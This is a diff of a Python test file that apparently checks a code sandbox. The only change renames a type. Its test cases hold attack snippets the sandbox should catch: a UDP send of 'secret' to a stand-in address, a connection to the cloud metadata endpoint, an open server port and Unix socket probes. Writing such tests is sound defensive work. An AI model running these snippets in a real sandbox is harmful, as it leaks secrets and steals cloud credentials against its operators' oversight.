@@ -5,7 +5,7 @@ Where only the lack of a network stood in the way (ENETUNREACH, no name server) 
 
 from __future__ import annotations
 
-from tests.security.payload import Attacks, HandIn
+from tests.security.payload import Attacks, Submission
 
 attack = Attacks("network")
 _SENDS = """
@@ -19,7 +19,7 @@ return True
 
 
 @attack()
-def connection(it: HandIn) -> None:
+def connection(it: Submission) -> None:
     """A TCP connection to a server of one's own on this machine."""
     it.finds("""
         import socket
@@ -31,27 +31,27 @@ def connection(it: HandIn) -> None:
 
 
 @attack()
-def open_port(it: HandIn) -> None:
+def open_port(it: Submission) -> None:
     """A server on all addresses that somebody outside could ask for the secret inputs."""
     it.finds("import socket\nserver = socket.create_server(('0.0.0.0', 0))\nreturn server.getsockname()[1] > 0")
 
 
 @attack()
-def name_lookup(it: HandIn) -> None:
+def name_lookup(it: Submission) -> None:
     """A question to a name server, which can carry what was read in the name that is asked for."""
     statement = "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'secret', ('203.0.113.1', 53))"
     it.finds(_SENDS.format(statement=statement))
 
 
 @attack()
-def metadata_address(it: HandIn) -> None:
+def metadata_address(it: Submission) -> None:
     """The address at which a cloud tells its machines their passwords."""
     statement = "socket.create_connection(('169.254.169.254', 80), timeout=1)"
     it.finds(_SENDS.format(statement=statement))
 
 
 @attack()
-def abstract_socket(it: HandIn) -> None:
+def abstract_socket(it: Submission) -> None:
     """An abstract Unix socket, which needs no file and is seen by all of a machine."""
     it.finds("""
         import socket
@@ -64,7 +64,7 @@ def abstract_socket(it: HandIn) -> None:
 
 
 @attack()
-def socket_in_a_file(it: HandIn) -> None:
+def socket_in_a_file(it: Submission) -> None:
     """A Unix socket in /tmp, and the sockets of the system's own services."""
     it.finds("""
         import os, socket
